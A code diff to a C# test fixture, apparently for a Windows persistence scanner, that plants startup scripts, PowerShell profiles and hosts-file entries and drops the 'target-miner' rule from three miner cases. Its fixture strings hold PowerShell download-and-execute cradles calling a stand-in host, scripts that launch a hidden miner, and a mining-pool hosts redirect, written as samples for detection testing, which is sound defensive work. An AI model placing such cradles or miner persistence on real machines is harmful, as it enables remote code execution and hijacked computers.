@@ -19,15 +19,15 @@ internal static class WindowsPlacePlants
         .. new Plant[]
         {
             new("W-STARTUP", "loud-vbs-cradle", PlantKind.Loud, tree => tree.File(Common + "update.vbs", "Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"powershell -w hidden -c \"\"iex (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')\"\"\", 0\r\n")) { Rule = "powershell-download-run" },
-            new("W-STARTUP", "quiet-batch-starts-miner", PlantKind.Quiet, tree => tree.File(Own + "sync.bat", "@echo off\r\ncd /d %APPDATA%\\Sync\r\nstart \"\" /min sync.exe\r\n").Pe("/Users/alice/AppData/Roaming/Sync/sync.exe", s_miner)) { Rule = "target-miner", AtLeast = Severity.Critical, Entries = [Own + "sync.bat"] },
-            new("W-STARTUP", "quiet-miner-itself", PlantKind.Quiet, tree => tree.Pe(Common + "Office Sync.exe", s_miner)) { Rule = "target-miner", AtLeast = Severity.Critical },
+            new("W-STARTUP", "quiet-batch-starts-miner", PlantKind.Quiet, tree => tree.File(Own + "sync.bat", "@echo off\r\ncd /d %APPDATA%\\Sync\r\nstart \"\" /min sync.exe\r\n").Pe("/Users/alice/AppData/Roaming/Sync/sync.exe", s_miner)) { AtLeast = Severity.Critical, Entries = [Own + "sync.bat"] },
+            new("W-STARTUP", "quiet-miner-itself", PlantKind.Quiet, tree => tree.Pe(Common + "Office Sync.exe", s_miner)) { AtLeast = Severity.Critical },
             new("W-STARTUP", "quiet-unknown-program", PlantKind.Quiet, tree => tree.Pe(Own + "helper.exe")) { Rule = "program", AtLeast = Severity.Medium },
             new("W-STARTUP", "dormant-in-subfolder", PlantKind.Dormant, tree => tree.Pe(Common + "old/Office Sync.exe", s_miner)) { TwinOf = "quiet-miner-itself" },
             new("W-STARTUP", "benign-drive-mapping", PlantKind.Benign, tree => tree.File(Own + "drives.bat", "@echo off\r\nnet use Z: \\\\fs01\\share /persistent:no\r\n")),
             new("W-STARTUP", "benign-shortcut", PlantKind.Benign, tree => tree.File(Common + "Agent.lnk", "L\0\0\0").File(Own + "desktop.ini", "[.ShellClassInfo]\r\n")),
             new("W-STARTUP", "benign-signed-program", PlantKind.Benign, tree => tree.Pe(Own + "Tray.exe", new PlantedPe { Seed = "tray", IsSigned = true })),
             new("W-PSPROFILE", "loud-cradle", PlantKind.Loud, tree => tree.File(MachineProfile, "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/p')\r\n")) { Rule = "powershell-download-run" },
-            new("W-PSPROFILE", "quiet-starts-miner", PlantKind.Quiet, tree => tree.File(UserProfile, "Set-Alias ll ls\r\nStart-Process -FilePath \"$env:APPDATA\\Sync\\sync.exe\" -NoNewWindow\r\n").Pe("/Users/alice/AppData/Roaming/Sync/sync.exe", s_miner)) { Rule = "target-miner", AtLeast = Severity.Critical, Entries = [UserProfile] },
+            new("W-PSPROFILE", "quiet-starts-miner", PlantKind.Quiet, tree => tree.File(UserProfile, "Set-Alias ll ls\r\nStart-Process -FilePath \"$env:APPDATA\\Sync\\sync.exe\" -NoNewWindow\r\n").Pe("/Users/alice/AppData/Roaming/Sync/sync.exe", s_miner)) { AtLeast = Severity.Critical, Entries = [UserProfile] },
             new("W-PSPROFILE", "benign-prompt", PlantKind.Benign, tree => tree.File(UserProfile, "Import-Module posh-git\r\nfunction prompt { \"PS $pwd> \" }\r\noh-my-posh init pwsh | Invoke-Expression\r\n")),
             new("W-PSPROFILE", "benign-machine-wide", PlantKind.Benign, tree => tree.File(MachineProfile, "$env:COMPANY = 'example'\r\n")),
             new("W-HOSTS", "loud-pool-redirected", PlantKind.Loud, tree => tree.Append(Hosts, "203.0.113.5 xmr.pool.minergate.com\r\n")) { Rule = "pool-redirected", AtLeast = Severity.Critical },
